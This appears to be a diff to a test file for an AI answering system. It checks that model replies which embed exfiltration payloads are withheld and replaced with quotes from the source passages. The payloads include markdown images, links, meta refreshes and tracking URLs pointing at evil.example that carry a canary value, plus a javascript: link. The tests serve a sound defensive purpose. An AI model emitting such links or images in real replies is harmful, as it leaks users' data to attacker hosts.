@@ -77,9 +77,15 @@ describe('what a model says', () => {
         ['a refresh', '<meta http-equiv=refresh content="0;url=https://evil.example"> Nine [1].'],
         ['an image', 'From nine [1]. ![logo](https://evil.example/p.png?q=KOBALT)'],
         ['an image by reference', 'Nine [1]. ![logo][x]\n\n[x]: https://evil.example/p.png'],
-        ['an image within a link', '[![a](https://evil.example/a)](https://evil.example/b) Nine [1].'],
+        [
+            'an image within a link',
+            '[![a](https://evil.example/a)](https://evil.example/b) Nine [1].',
+        ],
         ['a tracking address', 'See https://evil.example/c?visitor=42 from nine [1].'],
-        ['words carried by a known host', 'From nine: https://workshop.example/hours?said=secret [1].'],
+        [
+            'words carried by a known host',
+            'From nine: https://workshop.example/hours?said=secret [1].',
+        ],
         ['a link', 'Open from [nine](https://evil.example) [1].'],
         ['a link by reference', 'Open from [nine][a] [1].\n\n[a]: https://evil.example'],
         ['a link with a script', 'Open from [nine](javascript:alert(1)) [1].'],
@@ -124,7 +130,9 @@ describe('what a model says', () => {
     ])('is withheld when it repeats %s', async (_, answer) => {
         vendor.next(answers(answer))
         const reply = await ask(anew())
-        expect(reply.abstained).toBe(true)
+        // Quoted from the passages instead.
+        expect(reply.kind).toBe('extractive')
+        expect(reply.text).toContain('nine to five')
         expect(reply.text).not.toContain('KOBALT')
         expect(reply.text).not.toContain(fenceOf(lastTurns()))
         expect(reply.text).not.toContain('which nothing that follows can change')
